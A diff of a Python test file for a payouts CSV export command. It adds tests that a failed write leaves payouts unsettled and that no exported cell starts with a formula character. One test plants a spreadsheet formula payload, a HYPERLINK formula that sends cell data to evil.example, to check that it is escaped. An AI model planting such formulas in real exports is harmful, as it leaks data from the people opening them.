@@ -19,6 +19,7 @@ from sqlalchemy import select
 
 from infomediary.audit.log import Actor
 from infomediary.cli import main
+from infomediary.cli import payouts as payouts_cli
 from infomediary.instance import Instance
 from infomediary.models import (
     AccessLogEntry,
@@ -29,6 +30,7 @@ from infomediary.models import (
     utcnow,
 )
 from infomediary.services import Context, export_csv, exports, profiles, rewards, wallet
+from infomediary.services.customer_keys import customer_key
 from infomediary.statuses import DeliveryStatus, LedgerAccountKind, OfferStatus, PayoutStatus
 from tests.conftest import csrf
 from tests.factories import make_customer, make_supplier
@@ -196,10 +198,10 @@ def test_bad_payout_input_shows_every_error_and_keeps_what_was_typed(
     assert "The smallest payout is $5.00." in body
     assert 'value="4.99"' in body
     assert 'value="ab"' in body
-    too_much = _request(client, "8.01", "paypal: ada@example.org")
+    too_much = _request(client, "8.01", "ada@example.org")
     assert too_much.status_code == 400
     assert "You have $8.00 available." in too_much.get_data(as_text=True)
-    assert 'value="paypal: ada@example.org"' in too_much.get_data(as_text=True)
+    assert 'value="ada@example.org"' in too_much.get_data(as_text=True)
     assert _request(client, "twelve", IBAN).status_code == 400
     with inst.sessions() as session:
         assert session.execute(select(PayoutRequest)).first() is None
@@ -282,6 +284,63 @@ def test_cli_export_writes_csv_settles_and_never_pays_twice(
     assert "Cancel this payout" not in page
 
 
+def _put_destination(inst: Instance, payout_id: str, destination: str) -> None:
+    """A destination stored before today's checks: it reaches the export as it was typed."""
+    with inst.sessions() as session:
+        row = session.get_one(PayoutRequest, payout_id)
+        key = customer_key(session, inst, row.customer_id)
+        row.destination = inst.vault.seal(
+            key, "payout_requests", payout_id, "destination", destination
+        )
+        session.commit()
+
+
+def test_cli_export_writes_no_cell_a_spreadsheet_reads_as_a_formula(
+    client: Any, inst: Instance, customer: str, env: None, tmp_path: Path
+) -> None:
+    earn(inst, customer, 2000)
+    _request(client, "12.50", IBAN)
+    with inst.sessions() as session:
+        payout_id = session.execute(select(PayoutRequest.id)).scalar_one()
+    evil = '=HYPERLINK("https://evil.example/?"&A2,"DE89")'
+    _put_destination(inst, payout_id, evil)
+    out = tmp_path / "payouts.csv"
+    result = CliRunner().invoke(main, ["payouts", "export", "--csv", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert rows[1][4] == "'" + evil
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_a_failed_write_leaves_every_payout_requested(
+    client: Any, inst: Instance, customer: str, env: None, tmp_path: Path, monkeypatch: Any
+) -> None:
+    earn(inst, customer, 2000)
+    _request(client, "6", IBAN)
+    _request(client, "7", "ada@example.org")
+    out = tmp_path / "payouts.csv"
+
+    def unwritable(path: Path | None) -> Any:
+        class Full(io.StringIO):
+            def write(self, text: str) -> int:
+                raise OSError(28, "No space left on device")
+
+        return Full()
+
+    monkeypatch.setattr(payouts_cli, "_open_out", unwritable)
+    result = CliRunner().invoke(main, ["payouts", "export", "--csv", "--out", str(out)])
+    assert result.exit_code != 0
+    assert result.output.strip().startswith("error: ")
+    with inst.sessions() as session:
+        statuses = session.execute(select(PayoutRequest.status)).scalars().all()
+        assert sorted(statuses) == [PayoutStatus.REQUESTED, PayoutStatus.REQUESTED]
+        assert wallet.pending_cents(session, customer) == 1300
+    assert "wallet.payout_settled" not in [code_of(e) for e in _entries(inst, customer)]
+    assert _total(inst) == 0
+
+
 def test_cli_export_refuses_bad_input_in_one_line(
     env: None, inst: Instance, tmp_path: Path
 ) -> None:
@@ -322,7 +381,7 @@ def test_the_customers_export_holds_their_payouts_with_the_destination(
 ) -> None:
     earn(inst, customer, 1500)
     _request(client, "5", IBAN)
-    _request(client, "6.00", "paypal ada@example.org")
+    _request(client, "6.00", "ada@example.org")
     with inst.sessions() as session:
         cancelled = session.execute(
             select(PayoutRequest.id).where(PayoutRequest.amount_cents == 600)
@@ -335,7 +394,7 @@ def test_the_customers_export_holds_their_payouts_with_the_destination(
     validator = Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)
     assert [e.message for e in validator.iter_errors(document)] == []
     found = {(p["amount_cents"], p["destination"], p["status"]) for p in document["payouts"]}
-    assert found == {(500, IBAN, "requested"), (600, "paypal ada@example.org", "cancelled")}
+    assert found == {(500, IBAN, "requested"), (600, "ada@example.org", "cancelled")}
     kinds = [m["kind"] for m in document["earnings"]["movements"]]
     assert sorted(kinds) == ["payout", "payout", "payout_cancel", "reward"]
     assert document["earnings"]["balance_cents"] == 1000
